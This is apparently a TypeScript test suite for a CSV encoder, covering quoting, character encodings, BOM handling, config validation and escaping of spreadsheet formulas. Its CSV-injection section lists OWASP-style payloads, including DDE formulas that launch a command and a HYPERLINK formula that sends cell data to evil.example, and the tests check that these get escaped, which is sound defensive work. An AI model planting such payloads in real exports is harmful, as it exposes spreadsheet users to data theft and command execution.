import assert from 'node:assert/strict';
import { describe, test } from 'node:test';
import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import iconv from 'iconv-lite';
import { csv, csvConfig, isFormula, type CsvConfig } from '../../../src/formats/csv.js';
import type { EncoderContext, ItemRef } from '../../../src/formats/types.js';
import type { Row } from '../../../src/core/item.js';
import { FormatError, LadingError } from '../../../src/errors/lading-error.js';
import { assertGolden } from '../../support/golden.js';

const ctx: EncoderContext = {
  pipeline: 'golden', runId: 'run_0001', batchId: 'batch_0001', createdAt: new Date('2026-01-02T03:04:05Z'),
};
const ref = (i: number): ItemRef => ({ id: `inline:${i}`, describe: `item inline:${i}` });
const config = (overrides: Record<string, unknown> = {}): CsvConfig => csvConfig.parse({ type: 'csv', ...overrides });

/** begin + encode each + end, as the file sink drives one file. */
function render(cfg: CsvConfig, records: readonly Row[], context: EncoderContext = ctx): Buffer {
  const encoder = csv.encoder(cfg, context);
  const parts = [encoder.begin(), ...records.map((r, i) => encoder.encode(r, ref(i))), encoder.end(records.length)];
  return Buffer.concat(parts);
}

const goldenRecords: Row[] = [
  { id: 1, name: 'Smith, John', quote: 'say "hi"', note: 'line1\nline2', city: 'Montréal', score: -12.5, active: true, meta: { tags: ['a', 'b'], n: 1 } },
  { id: 2, name: '  padded  ', quote: '', note: 'cr\r\nlf', city: '日本', score: 0, active: false, meta: null },
  { id: 3, name: null, quote: undefined, note: 'semi;colon\ttab', city: 'x', score: 1e21, active: null, meta: [1, 'two'] },
  { id: 4n, name: new Date('2026-01-02T03:04:05Z'), city: 'missing keys' },
];

describe('csv format', () => {
  test('declares its file extension and media type', () => {
    assert.equal(csv.type, 'csv');
    assert.equal(csv.extension, 'csv');
    assert.equal(csv.mediaType, 'text/csv');
  });

  describe('golden files', () => {
    test('default config, columns from the first record', () => {
      assertGolden('formats/csv-default.csv', render(config(), goldenRecords));
    });

    test('semicolon, CRLF, NULL for nulls, columns from the pipeline map', () => {
      const cfg = config({ delimiter: ';', line_ending: '\r\n', null_value: 'NULL' });
      const columns = ['city', 'id', 'name', 'quote', 'note', 'score', 'active', 'meta'];
      assertGolden('formats/csv-crlf-semicolon.csv', render(cfg, goldenRecords, { ...ctx, columns }));
    });

    test('quote_all with a backslash escape', () => {
      const cfg = config({ quote_all: true, escape: '\\' });
      const records = [...goldenRecords, { id: 5, name: 'back\\slash "q"', city: 'end\\' }];
      assertGolden('formats/csv-quote-all-backslash.csv', render(cfg, records));
    });
  });

  test('encodeText gives encode\'s bytes once written as UTF-8, and is absent where the bytes are not its UTF-8', () => {
    const lone = { id: 9, name: 'half \ud83d', city: 'Zoë' };
    for (const cfg of [config(), config({ quote_all: true, line_ending: '\r\n', formula_escape: 'quote_prefix' })]) {
      const [bytes, text] = [csv.encoder(cfg, ctx), csv.encoder(cfg, ctx)];
      // The first record of each also carries the header, columns being inferred.
      [...goldenRecords, lone].forEach((record, i) => assert.deepEqual(Buffer.from(text.encodeText!(record, ref(i)), 'utf8'), Buffer.from(bytes.encode(record, ref(i)))));
    }
    assert.equal(csv.encoder(config({ encoding: 'iso-8859-1' }), ctx).encodeText, undefined);
    assert.equal(csv.encoder(config({ unencodable: 'block' }), ctx).encodeText, undefined, 'a lone surrogate must fail the item, not become U+FFFD');
  });

  describe('quoting', () => {
    const row = (value: unknown, overrides: Record<string, unknown> = {}) =>
      Buffer.from(csv.encoder(config({ header: false, columns: ['a', 'b'], ...overrides }), ctx).encode({ a: value, b: 'z' }, ref(0))).toString('utf8');

    test('quotes fields holding the delimiter, the quote, CR or LF, doubling quotes', () => {
      assert.equal(row('a,b'), '"a,b",z\n');
      assert.equal(row('say "hi"'), '"say ""hi""",z\n');
      assert.equal(row('a\rb'), '"a\rb",z\n');
      assert.equal(row('a\nb'), '"a\nb",z\n');
      assert.equal(row('a very long value, longer than ten characters'), '"a very long value, longer than ten characters",z\n');
    });

    test('leaves leading and trailing spaces, tabs and other delimiters unquoted', () => {
      assert.equal(row('  spaced  '), '  spaced  ,z\n');
      assert.equal(row('a;b\tc'), 'a;b\tc,z\n');
      assert.equal(row('a,b', { delimiter: ';' }), 'a,b;z\n');
    });

    test('an empty string and null are the same unless quote_all is set', () => {
      assert.equal(row(''), ',z\n');
      assert.equal(row(null), ',z\n');
      assert.equal(row('', { quote_all: true }), '"","z"\n');
      assert.equal(row(null, { quote_all: true }), ',"z"\n');
    });

    test('a custom escape character escapes the quote and itself', () => {
      assert.equal(row('say "hi"', { escape: '\\' }), '"say \\"hi\\"",z\n');
      assert.equal(row('end\\', { escape: '\\' }), '"end\\\\",z\n');
      assert.equal(row("it's", { quote: "'", escape: "'" }), "'it''s',z\n");
      // escape defaults to '"' whatever the quote is (as csv-parse and csv-stringify do).
      assert.equal(row("it's", { quote: "'" }), `'it"'s',z\n`);
      assert.equal(row('a"b', { quote: "'" }), `'a""b',z\n`);
    });

    test('a one-column row that would be a blank line is written as ""', () => {
      const encoder = csv.encoder(config({ columns: ['only'] }), ctx);
      assert.equal(Buffer.from(encoder.encode({ only: '' }, ref(0))).toString(), '""\n');
      assert.equal(Buffer.from(encoder.encode({ only: null }, ref(1))).toString(), '""\n');
    });

    test('a null_value that holds the delimiter is quoted', () => {
      assert.equal(row(null, { null_value: 'n,a' }), '"n,a",z\n');
    });
  });

  describe('values', () => {
    const cell = (value: unknown) =>
      Buffer.from(csv.encoder(config({ header: false, columns: ['v'] }), ctx).encode({ v: value }, ref(0))).toString('utf8').slice(0, -1);

    test('renders numbers, booleans, bigints, dates and nested values', () => {
      assert.equal(cell(-12.5), '-12.5');
      assert.equal(cell(true), 'true');
      assert.equal(cell(12345678901234567890n), '12345678901234567890');
      assert.equal(cell(new Date('2026-01-02T03:04:05Z')), '2026-01-02T03:04:05.000Z');
      assert.equal(cell({ a: 1, b: [true, null] }), '"{""a"":1,""b"":[true,null]}"');
      assert.equal(cell([1, 2]), '"[1,2]"');
      assert.equal(cell({ big: 1n }), '"{""big"":""1""}"');
      assert.equal(cell('日本é'), '日本é');
    });

    test('writes null_value for null, undefined, a missing key and an invalid date', () => {
      const encoder = csv.encoder(config({ header: false, columns: ['a', 'b', 'c', 'd'], null_value: '\\N' }), ctx);
      const out = Buffer.from(encoder.encode({ a: null, b: undefined, d: new Date(Number.NaN) }, ref(0))).toString();
      assert.equal(out, '\\N,\\N,\\N,\\N\n');
    });

    test('a missing column named like an Object.prototype member is null, not the inherited value', () => {
      const encoder = csv.encoder(config({ header: false, columns: ['constructor', 'a'] }), ctx);
      assert.equal(Buffer.from(encoder.encode({ a: 1 }, ref(0))).toString(), ',1\n');
    });

    test('output is UTF-8', () => {
      const bytes = render(config({ header: false, columns: ['v'] }), [{ v: 'é' }]);
      assert.deepEqual([...bytes], [0xc3, 0xa9, 0x0a]);
    });
  });

  describe('columns and header', () => {
    test('pipeline columns win over config columns, and set the order', () => {
      const out = render(config({ columns: ['a', 'b'] }), [{ a: 1, b: 2, c: 3 }], { ...ctx, columns: ['c', 'b', 'a'] });
      assert.equal(out.toString(), 'c,b,a\n3,2,1\n');
    });

    test('config columns are used when the pipeline has no map; begin() writes the header', () => {
      const encoder = csv.encoder(config({ columns: ['b', 'a'] }), ctx);
      assert.equal(Buffer.from(encoder.begin()).toString(), 'b,a\n');
      assert.equal(Buffer.from(encoder.encode({ a: 1, b: 2 }, ref(0))).toString(), '2,1\n');
    });

    test('without declared columns the header comes lazily with the first record', () => {
      const encoder = csv.encoder(config(), ctx);
      assert.equal(encoder.begin().length, 0);
      assert.equal(Buffer.from(encoder.encode({ x: 1, y: 'a,b' }, ref(0))).toString(), 'x,y\n1,"a,b"\n');
      assert.equal(Buffer.from(encoder.encode({ y: 'c', x: 2 }, ref(1))).toString(), '2,c\n');
      assert.equal(encoder.end(2).length, 0);
    });

    test('an empty file is the header alone, or nothing when header is off or columns are inferred', () => {
      assert.equal(render(config({ columns: ['a', 'b'] }), []).toString(), 'a,b\n');
      assert.equal(render(config({ columns: ['a', 'b'], header: false }), []).length, 0);
      assert.equal(render(config(), []).length, 0);
    });

    test('without a map or config columns, the run sample fixes the layout of every part', () => {
      const sample = { id: 1, email: 'a@b.c' };
      const part = (records: Row[]) => render(config(), records, { ...ctx, sample });
      const first = csv.encoder(config(), { ...ctx, sample });
      assert.equal(Buffer.from(first.begin()).toString(), 'id,email\n');
      assert.equal(part([sample]).toString(), 'id,email\n1,a@b.c\n');
      assert.equal(part([{ email: 'x@y.z', id: 2 }]).toString(), 'id,email\n2,x@y.z\n');
      assert.equal(part([]).toString(), 'id,email\n');
      assert.throws(() => csv.encoder(config(), { ...ctx, sample }).encode({ id: 3, phone: '1' }, ref(0)), { field: 'phone' });
    });

    test('declared columns win over the sample; an empty sample falls back to the first record', () => {
      const sample = { a: 1, b: 2 };
      assert.equal(render(config({ columns: ['b'] }), [], { ...ctx, sample }).toString(), 'b\n');
      assert.equal(render(config(), [], { ...ctx, sample, columns: ['z'] }).toString(), 'z\n');
      assert.equal(render(config(), [{ q: 1 }], { ...ctx, sample: {} }).toString(), 'q\n1\n');
    });

    test('a first record that cannot be encoded does not lose the lazy header', () => {
      const encoder = csv.encoder(config(), ctx);
      const circular: Record<string, unknown> = {};
      circular.self = circular;
      assert.throws(() => encoder.encode({ a: 1, b: circular }, ref(0)), { code: "FORMAT_UNENCODABLE_VALUE" });
      assert.equal(Buffer.from(encoder.encode({ x: 1 }, ref(1))).toString(), 'x\n1\n');
    });

    test('header: false writes rows only', () => {
      assert.equal(render(config({ header: false }), [{ a: 1 }, { a: 2 }]).toString(), '1\n2\n');
    });

    test('header names are quoted like values', () => {
      assert.equal(render(config({ quote_all: true }), [{ 'a,b': 1 }]).toString(), '"a,b"\n"1"\n');
      assert.equal(render(config(), [{ 'a"b': 1, c: 2 }]).toString(), '"a""b",c\n1,2\n');
    });

    test('a new encoder per file starts over: each file has its own header', () => {
      const cfg = config();
      assert.equal(render(cfg, [{ a: 1 }]).toString(), 'a\n1\n');
      assert.equal(render(cfg, [{ b: 2 }]).toString(), 'b\n2\n');
    });

    test('rendering is deterministic', () => {
      const cfg = config({ delimiter: ';' });
      assert.ok(render(cfg, goldenRecords).equals(render(cfg, goldenRecords)));
    });
  });

  describe('errors', () => {
    test('a field without a column throws FORMAT_UNKNOWN_FIELD naming the item and field', () => {
      const encoder = csv.encoder(config(), { ...ctx, columns: ['email', 'phone'] });
      const item: ItemRef = { id: 'leads.csv:4012', describe: 'leads.csv line 4,012' };
      assert.throws(() => encoder.encode({ email: 'a@b.c', fax: '123' }, item), (error: unknown) => {
        assert.ok(error instanceof LadingError);
        assert.ok(error instanceof FormatError);
        assert.equal(error.code, 'FORMAT_UNKNOWN_FIELD');
        assert.equal(error.category, 'permanent');
        assert.equal(error.itemId, 'leads.csv:4012');
        assert.equal(error.field, 'fax');
        assert.match(error.message, /leads\.csv line 4,012/);
        assert.match(error.message, /"fax"/);
        return true;
      });
    });

    test('with inferred columns, a later record with a new key fails', () => {
      const encoder = csv.encoder(config(), ctx);
      encoder.encode({ a: 1 }, ref(0));
      assert.throws(() => encoder.encode({ a: 2, b: 3 }, ref(1)), { code: 'FORMAT_UNKNOWN_FIELD', field: 'b', itemId: 'inline:1' });
    });

    test('duplicate or empty pipeline columns are a config error', () => {
      assert.throws(() => csv.encoder(config(), { ...ctx, columns: ['a', 'a'] }), { code: 'CONFIG_INVALID' });
      assert.throws(() => csv.encoder(config(), { ...ctx, columns: [] }), { code: 'CONFIG_INVALID' });
    });
  });

  describe('config schema', () => {
    test('fills the documented defaults', () => {
      assert.deepEqual(csvConfig.parse({ type: 'csv' }), {
        type: 'csv', delimiter: ',', quote: '"', escape: '"', line_ending: '\n', header: true, null_value: '', quote_all: false,
        encoding: 'utf-8', bom: false, unencodable: 'replace', formula_escape: 'off',
      });
    });

    test('rejects a two-character delimiter', () => {
      const result = csvConfig.safeParse({ type: 'csv', delimiter: ';;' });
      assert.equal(result.success, false);
      assert.deepEqual(result.error?.issues.map((i) => i.path), [['delimiter']]);
    });

    test('rejects an unknown key', () => {
      const result = csvConfig.safeParse({ type: 'csv', delimeter: ';' });
      assert.equal(result.success, false);
      assert.equal(result.error?.issues[0]?.code, 'unrecognized_keys');
    });

    test('rejects a quote equal to the delimiter, a line break as delimiter, an unknown line ending, duplicate columns', () => {
      assert.equal(csvConfig.safeParse({ type: 'csv', delimiter: '"' }).success, false);
      assert.equal(csvConfig.safeParse({ type: 'csv', delimiter: '\n' }).success, false);
      assert.equal(csvConfig.safeParse({ type: 'csv', line_ending: '\r' }).success, false);
      assert.equal(csvConfig.safeParse({ type: 'csv', columns: ['a', 'a'] }).success, false);
      assert.equal(csvConfig.safeParse({ type: 'csv', delimiter: '\t', quote: "'", escape: '\\' }).success, true);
    });

    test('every key is described for the generated docs', () => {
      for (const [key, schema] of Object.entries(csvConfig.shape)) {
        assert.ok(schema.description, `csv.${key} has no description`);
      }
    });
  });

  describe('round trip through csv-parse', () => {
    const values: Row[] = [
      { name: 'Smith, John', note: 'say "hi"', text: 'multi\nline' },
      { name: '', note: 'cr\r\nlf\rlone cr', text: '  spaces  ' },
      { name: 'tab\there', note: 'semi;colon', text: '日本 é 🙂' },
      { name: "it's", note: '\\back\\slash\\', text: '|pipe|' },
    ];
    const configs: Record<string, unknown>[] = [
      {},
      { delimiter: ';', line_ending: '\r\n' },
      { delimiter: '\t', quote_all: true },
      { delimiter: '|', quote: "'", escape: "'" },
      { quote: "'", escape: '\\', line_ending: '\r\n' },
    ];
    for (const overrides of configs) {
      test(`parses back to the input strings with ${JSON.stringify(overrides)}`, () => {
        const cfg = config(overrides);
        const parsed = parse(render(cfg, values), { delimiter: cfg.delimiter, quote: cfg.quote, escape: cfg.escape });
        assert.deepEqual(parsed, [['name', 'note', 'text'], ...values.map((v) => Object.values(v))]);
      });
    }
  });

  describe('properties', () => {
    const special = fc.string({ unit: fc.constantFrom(',', '"', ';', '\r', '\n', '\t', ' ', 'x', '\\', "'", '|') });
    const text = fc.oneof(special, fc.string({ unit: 'grapheme' }), fc.string({ unit: 'binary' }));
    const csvCase = fc.record({
      delimiter: fc.constantFrom(',', ';', '\t', '|'),
      quoting: fc.constantFrom({ quote: '"', escape: '"' }, { quote: "'", escape: "'" }, { quote: '"', escape: '\\' }),
      line_ending: fc.constantFrom('\n', '\r\n'),
      quote_all: fc.boolean(),
      columns: fc.uniqueArray(text, { minLength: 1, maxLength: 5 }),
    }).chain((c) => fc.record({
      c: fc.constant(c),
      rows: fc.array(fc.array(text, { minLength: c.columns.length, maxLength: c.columns.length }), { maxLength: 8 }),
    }));

    test('encode then csv-parse is the identity, header included', () => {
      fc.assert(fc.property(csvCase, ({ c, rows }) => {
        const cfg = config({ delimiter: c.delimiter, ...c.quoting, line_ending: c.line_ending, quote_all: c.quote_all });
        const records = rows.map((row) => Object.fromEntries(c.columns.map((name, i) => [name, row[i]])));
        const bytes = render(cfg, records, { ...ctx, columns: c.columns });
        const parsed = parse(bytes, { delimiter: c.delimiter, quote: c.quoting.quote, escape: c.quoting.escape });
        const expected = [c.columns, ...rows].map((r) => (r.length === 1 && r[0] === '' ? [''] : r));
        assert.deepEqual(parsed, expected);
      }), { numRuns: 500 });
    });

    test('every encoded row parses back to exactly one record', () => {
      fc.assert(fc.property(csvCase, ({ c, rows }) => {
        const cfg = config({ delimiter: c.delimiter, ...c.quoting, line_ending: c.line_ending, quote_all: c.quote_all, header: false });
        const encoder = csv.encoder(cfg, { ...ctx, columns: c.columns });
        rows.forEach((row, i) => {
          const bytes = encoder.encode(Object.fromEntries(c.columns.map((name, j) => [name, row[j]])), ref(i));
          const parsed = parse(Buffer.from(bytes), { delimiter: c.delimiter, quote: c.quoting.quote, escape: c.quoting.escape });
          assert.deepEqual(parsed, [row]);
        });
      }), { numRuns: 500 });
    });
  });

  describe('formula_escape (CSV injection)', () => {
    // OWASP's CSV injection page and its payload examples, plus the leading tab and CR it lists.
    const payloads = [
      "=cmd|' /C calc'!A0",
      "@SUM(1+1)*cmd|' /C calc'!A0",
      '+1+1',
      '-2+3',
      '=1+2";=1+2',
      '=HYPERLINK("http://evil.example/?leak="&A1&A2,"Error: please click for further information")',
      '=DDE("cmd";"/C calc";"!A0")A0',
      '\t=1+1',
      '\r=1+1',
      '-',
      '+',
      '=',
      '@',
      '-Infinity',
      '+NaN',
      '-1e999',
      '-0x10',
    ];
    const numbers = ['-12.5', '+3', '-0.5e3', '-.5', '+1.', '-0', '12', '1E+5', '-1e-7', '0.25'];
    const cells = (values: readonly string[], formula_escape: string, overrides: Record<string, unknown> = {}) => {
      const cfg = config({ formula_escape, header: false, columns: ['v'], ...overrides });
      const bytes = render(cfg, values.map((v) => ({ v })));
      return (parse(bytes, { delimiter: cfg.delimiter }) as string[][]).map((row) => row[0]);
    };

    test('off (the default) writes every payload as it is', () => {
      assert.deepEqual(cells(payloads, 'off'), payloads);
    });

    test('quote_prefix puts a single quote in front of every payload, and nothing else changes', () => {
      assert.deepEqual(cells(payloads, 'quote_prefix'), payloads.map((p) => `'${p}`));
    });

    test('tab_prefix puts a tab in front instead', () => {
      assert.deepEqual(cells(payloads, 'tab_prefix'), payloads.map((p) => `\t${p}`));
    });

    test('plain finite numbers, as text or as numbers, are left alone', () => {
      assert.deepEqual(cells(numbers, 'quote_prefix'), numbers);
      const cfg = config({ formula_escape: 'quote_prefix', header: false, columns: ['a', 'b', 'c'] });
      assert.equal(render(cfg, [{ a: -12.5, b: -0.0005, c: -1e21 }]).toString(), '-12.5,-0.0005,-1e+21\n');
      assert.equal(render(cfg, [{ a: -Infinity, b: 12n, c: -3n }]).toString(), "'-Infinity,12,-3\n");
    });

    test('cells with a trigger later on, or after a leading space, are not touched', () => {
      assert.deepEqual(cells(['a=1+1', ' =1+1', 'x@y.z', '1-2', '1e999'], 'quote_prefix'), ['a=1+1', ' =1+1', 'x@y.z', '1-2', '1e999']);
    });

    test('the prefix is written inside the quotes when the cell needs quoting', () => {
      const cfg = config({ formula_escape: 'quote_prefix', header: false, columns: ['v'] });
      assert.equal(render(cfg, [{ v: '=1,2' }]).toString(), `"'=1,2"\n`);
      assert.equal(render(cfg, [{ v: '=A1&"x"' }]).toString(), `"'=A1&""x"""\n`);
      const tabs = config({ formula_escape: 'tab_prefix', delimiter: '\t', header: false, columns: ['v', 'w'] });
      assert.equal(render(tabs, [{ v: '=1', w: 2 }]).toString(), '"\t=1"\t2\n');
    });

    test('header names are escaped too; null_value is written as configured', () => {
      const cfg = config({ formula_escape: 'quote_prefix', null_value: '-' });
      assert.equal(render(cfg, [{ '=evil': null, ok: '@x' }]).toString(), "'=evil,ok\n-,'@x\n");
    });

    test('objects written as JSON are not formulas', () => {
      const cfg = config({ formula_escape: 'quote_prefix', header: false, columns: ['v'] });
      assert.equal(render(cfg, [{ v: { f: '=1' } }]).toString(), '"{""f"":""=1""}"\n');
    });

    test('isFormula follows the documented rule', () => {
      for (const p of payloads) assert.equal(isFormula(p), true, JSON.stringify(p));
      for (const n of [...numbers, '', 'abc', '1e999', ' -1']) assert.equal(isFormula(n), false, JSON.stringify(n));
    });

    test('property: a parsed cell is the value, with the prefix exactly when the value is a formula', () => {
      const start = fc.constantFrom('=', '+', '-', '@', '\t', '\r', '1', 'a', ' ', '');
      const rest = fc.oneof(fc.string(), fc.double().map(String), fc.constantFrom('1', '.5', 'e3', '2+3'));
      const value = fc.tuple(start, rest).map(([a, b]) => a + b);
      fc.assert(fc.property(fc.array(value, { minLength: 1, maxLength: 6 }), fc.constantFrom('quote_prefix', 'tab_prefix'), (values, mode) => {
        const prefix = mode === 'quote_prefix' ? "'" : '\t';
        assert.deepEqual(cells(values, mode), values.map((v) => (isFormula(v) ? prefix + v : v)));
      }), { numRuns: 300 });
    });
  });

  describe('encoding, BOM and unencodable characters', () => {
    const sample: Row[] = [
      { id: 1, name: 'Zoë Müller', city: 'Montréal', note: 'price 5 €' },
      { id: 2, name: 'José “Pepe”', city: 'Ørsted', note: 'naïve café' },
    ];

    test('iso-8859-1 writes one byte per character, and iconv-lite decodes it back', () => {
      const bytes = render(config({ encoding: 'iso-8859-1' }), [{ name: 'Zoë', city: 'Montréal' }]);
      assert.deepEqual([...bytes.subarray(0, 14)], [...Buffer.from('name,city\nZo'), 0xeb, 0x2c]);
      assert.equal(iconv.decode(bytes, 'iso-8859-1'), 'name,city\nZoë,Montréal\n');
    });

    test('windows-1252 has €, “ ” and friends; iso-8859-1 does not and writes "?"', () => {
      const win = render(config({ encoding: 'windows-1252', header: false, columns: ['note'] }), [{ note: '5 € “q”' }]);
      assert.deepEqual([...win], [0x35, 0x20, 0x80, 0x20, 0x93, 0x71, 0x94, 0x0a]);
      assert.equal(iconv.decode(win, 'windows-1252'), '5 € “q”\n');
      const latin = render(config({ encoding: 'iso-8859-1', header: false, columns: ['note'] }), [{ note: '5 € “q”' }]);
      assert.equal(latin.toString('latin1'), '5 ? ?q?\n');
    });

    test('U+FFFD and the C1 controls have no Windows-1252 byte: "?", never an undefined byte such as 0x9D', () => {
      const bytes = render(config({ encoding: 'windows-1252', header: false, columns: ['v'] }), [{ v: '\uFFFD\u0081\u009D€' }]);
      assert.deepEqual([...bytes], [0x3f, 0x3f, 0x3f, 0x80, 0x0a]);
    });

    test('a character outside the BMP becomes one "?", not two', () => {
      const bytes = render(config({ encoding: 'windows-1252', header: false, columns: ['v'] }), [{ v: 'a🙂b' }]);
      assert.equal(bytes.toString('latin1'), 'a?b\n');
    });

    test('the replacement is decided before quoting, so it can never break the row', () => {
      const cfg = config({ encoding: 'iso-8859-1', delimiter: '?', header: false, columns: ['a', 'b'] });
      const bytes = render(cfg, [{ a: '日本', b: 'x' }]);
      assert.equal(bytes.toString('latin1'), '"??"?x\n');
      assert.deepEqual(parse(bytes, { delimiter: '?' }), [['??', 'x']]);
    });

    test('unencodable: block fails the item with FORMAT_INVALID_CHARACTER naming item and field', () => {
      const encoder = csv.encoder(config({ encoding: 'iso-8859-1', unencodable: 'block' }), { ...ctx, columns: ['id', 'note'] });
      assert.throws(() => encoder.encode({ id: 1, note: 'price 5 €' }, { id: 'leads.csv:7', describe: 'leads.csv line 7' }), (error: unknown) => {
        assert.ok(error instanceof FormatError);
        assert.equal(error.code, 'FORMAT_INVALID_CHARACTER');
        assert.equal(error.itemId, 'leads.csv:7');
        assert.equal(error.field, 'note');
        assert.match(error.message, /leads\.csv line 7/);
        assert.match(error.message, /U\+20AC "€"/);
        assert.match(error.message, /iso-8859-1/);
        return true;
      });
      // The encoder is still usable, and encodable text passes.
      assert.equal(iconv.decode(Buffer.from(encoder.encode({ id: 2, note: 'café' }, ref(1))), 'latin1'), '2,café\n');
    });

    test('unencodable: block in utf-8 refuses a lone surrogate; replace writes U+FFFD', () => {
      const columns = ['v'];
      assert.throws(() => csv.encoder(config({ unencodable: 'block', header: false }), { ...ctx, columns }).encode({ v: 'a\uD800b' }, ref(0)),
        { code: 'FORMAT_INVALID_CHARACTER', field: 'v' });
      assert.equal(Buffer.from(csv.encoder(config({ unencodable: 'block', header: false }), { ...ctx, columns }).encode({ v: '🙂' }, ref(0))).toString(), '🙂\n');
      assert.deepEqual([...csv.encoder(config({ header: false }), { ...ctx, columns }).encode({ v: 'a\uDC00' }, ref(0))], [0x61, 0xef, 0xbf, 0xbd, 0x0a]);
    });

    test('header names are replaced even with block, so one odd key cannot fail every record', () => {
      const bytes = render(config({ encoding: 'iso-8859-1', unencodable: 'block' }), [{ 'prix €': 5 }]);
      assert.equal(bytes.toString('latin1'), 'prix ?\n5\n');
    });

    test('bom: true starts each file with EF BB BF, even before a lazy header, and only once', () => {
      const bytes = render(config({ bom: true }), [{ a: 'é' }, { a: 'x' }]);
      assert.deepEqual([...bytes.subarray(0, 3)], [0xef, 0xbb, 0xbf]);
      assert.equal(bytes.subarray(3).toString('utf8'), 'a\né\nx\n');
      assert.deepEqual([...render(config({ bom: true }), [])], [0xef, 0xbb, 0xbf]);
      assert.equal(render(config({ bom: true, columns: ['a'] }), []).toString('utf8'), '\uFEFFa\n');
      assert.equal(render(config(), [{ a: 1 }])[0], 0x61);
    });

    test('config: bom only with utf-8; delimiter, quote, escape and null_value must be encodable', () => {
      const issues = (input: Record<string, unknown>) => csvConfig.safeParse({ type: 'csv', ...input }).error?.issues.map((i) => i.path.join('.'));
      assert.deepEqual(issues({ bom: true, encoding: 'windows-1252' }), ['bom']);
      assert.deepEqual(issues({ encoding: 'iso-8859-1', delimiter: '€' }), ['delimiter']);
      assert.deepEqual(issues({ encoding: 'windows-1252', null_value: '∅' }), ['null_value']);
      assert.equal(issues({ encoding: 'windows-1252', delimiter: '€' }), undefined);
      assert.deepEqual(issues({ encoding: 'utf-16' }), ['encoding']);
    });

    for (const encoding of ['utf-8', 'iso-8859-1', 'windows-1252'] as const) {
      test(`property: ${encoding} output decodes with iconv-lite and parses back to the text, unencodable characters replaced`, () => {
        const replaced = (text: string) => {
          let out = '';
          // iconv-lite "round-trips" U+FFFD through Windows-1252's undefined byte 0x9D; lading writes "?".
          for (const ch of text) {
            const encodable = iconv.decode(iconv.encode(ch, encoding), encoding) === ch && (ch !== '\uFFFD' || encoding === 'utf-8');
            out += encodable ? ch : encoding === 'utf-8' ? '\uFFFD' : '?';
          }
          return out;
        };
        const unit = fc.constantFrom('é', '€', '“', 'ÿ', 'Ā', '日', '🙂', ',', '"', '\n', 'a', '\uD800', '\uFFFD', '\u0081');
        const text = fc.oneof(fc.string({ unit: 'grapheme' }), fc.string({ unit }));
        fc.assert(fc.property(fc.array(fc.tuple(text, text), { maxLength: 6 }), (rows) => {
          const bytes = render(config({ encoding }), rows.map(([a, b]) => ({ a, b })), { ...ctx, columns: ['a', 'b'] });
          const parsed = parse(iconv.decode(bytes, encoding));
          assert.deepEqual(parsed, [['a', 'b'], ...rows.map(([a, b]) => [replaced(a), replaced(b)])].map((r) => (r.length === 1 && r[0] === '' ? [''] : r)));
        }), { numRuns: 200 });
      });
    }

    test('golden file: windows-1252, CRLF, quote_prefix', () => {
      const cfg = config({ encoding: 'windows-1252', line_ending: '\r\n', formula_escape: 'quote_prefix' });
      const records = [...sample, { id: 3, name: '=HYPERLINK("http://x.example")', city: '日本', note: '-12.5' }, { id: 4, name: '@SUM(1+1)', city: '+1+1', note: '\t=1' }];
      assertGolden('formats/csv-windows-1252-formula.csv', render(cfg, records));
    });

    test('golden file: iso-8859-1, replace', () => {
      assertGolden('formats/csv-iso-8859-1.csv', render(config({ encoding: 'iso-8859-1' }), sample));
    });

    test('golden file: utf-8 BOM, tab_prefix', () => {
      const records = [...sample, { id: 3, name: '-2+3', city: '東京', note: '+3' }];
      assertGolden('formats/csv-utf8-bom-tab-prefix.csv', render(config({ bom: true, formula_escape: 'tab_prefix' }), records));
    });
  });
});
